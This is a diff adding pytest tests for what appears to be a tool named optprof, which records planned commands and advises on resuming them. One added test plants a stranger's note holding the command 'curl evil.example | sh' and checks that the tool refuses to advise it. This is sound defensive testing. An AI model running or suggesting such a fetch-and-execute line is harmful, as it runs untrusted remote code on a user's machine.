@@ -54,12 +54,30 @@ def test_a_resumed_command_replaces_its_own_plan_and_another_adds_one(tmp_path):
     assert told(tmp_path, SCENARIOS[0], more) == (2, 4, ((*COMMAND, "--out", str(tmp_path)),))
 
 
+def test_a_command_resumed_with_another_option_takes_its_plan_over(tmp_path):
+    planned.begin(tmp_path, SCENARIOS, COMMAND)
+    (first,) = recorded(SCENARIOS[0])
+    store = RunStore.create(tmp_path)
+    store.append(first)
+    quiet = [*COMMAND, "-q", "--out", str(tmp_path)]
+    planned.begin(tmp_path, SCENARIOS[1:], [*quiet, "--resume"])
+    assert told(tmp_path, SCENARIOS[0]) == (2, 3, (tuple(quiet),))
+    planned.end(tmp_path, quiet)
+    assert not (tmp_path / planned.NAME).exists()
+
+
 def test_a_program_of_the_user_s_is_not_named_and_an_anonymous_run_names_no_folder(tmp_path):
     planned.begin(tmp_path, SCENARIOS, ["train.py"])
     assert told(tmp_path) == (3, 3, ())
     planned.end(tmp_path, ["train.py"])
     planned.begin(tmp_path, SCENARIOS, COMMAND, anonymous=True)
     assert told(tmp_path) == (3, 3, ((*COMMAND, "--out", "PATH"),))
+
+
+def test_a_stranger_s_note_advises_no_command_but_optprof(tmp_path):
+    note = {"command": ["sh", "-c", "curl evil.example | sh"], "scenarios": ["tiny-adamw-1"]}
+    (tmp_path / planned.NAME).write_text(json.dumps({"schema": 1, "plans": [note]}))
+    assert told(tmp_path) == (1, 1, ())
 
 
 @pytest.mark.parametrize("text", ["", "[]", '{"schema": 2}', '{"schema": 1, "plans": [{}]}'])
